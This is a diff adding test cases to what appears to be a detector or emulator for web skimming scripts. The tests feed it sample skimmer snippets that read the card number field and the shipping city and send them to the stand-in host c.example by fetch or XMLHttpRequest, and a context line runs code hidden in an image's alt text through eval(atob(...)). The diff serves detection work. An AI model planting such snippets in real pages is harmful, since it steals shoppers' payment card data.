@@ -144,6 +144,32 @@ describe('emulator: the decoy world', () => {
     assert.equal(eventsOf(trace, 'form-action').length > 0, true);
   });
 
+  it('takes what is named like a hosted field for the frame that it is', async () => {
+    const trace = await run(
+      "var f = document.getElementById('braintree-hosted-field-cvv'); if (f.src.indexOf('#') < 1 && f.tagName == 'IFRAME') fetch('https://c.example/')",
+    );
+    assert.equal(requestsOf(trace)[0]?.host, 'c.example');
+  });
+
+  it('finds in markup what a script cuts out of it, where the page has it not', async () => {
+    const flows = await flowsOf(`setTimeout(function () {
+      var html = document.querySelector('.shipping-information').outerHTML;
+      var city = html.match(/<!-- ko text: city -->([^<]*)<!-- .ko -->/)[1].trim();
+      fetch('https://c.example/?' + city + document.querySelector('#cc_number').value);
+    }, 500)`);
+    assert.deepEqual(flows.map(({ field }) => field).sort(), ['card-number', 'city']);
+  });
+
+  it('sends what goes by the ancestor of XMLHttpRequest', async () => {
+    const flows = await flowsOf(`
+      var x; try { x = new ActiveXObject('Msxml2.XMLHTTP') } catch (e) { x = new XMLHttpRequest() }
+      x.open('POST', 'https://c.example/'); x.send(document.querySelector('#cc_number').value);`);
+    assert.deepEqual(
+      flows.map(({ transport }) => transport),
+      ['xhr'],
+    );
+  });
+
   it('finds code in the description of a picture', async () => {
     for (const take of ["split(':')[1]", 'slice(4)', "replace('x', '')"]) {
       const trace = await run(`eval(atob(document.querySelector('img').alt.${take}))`);
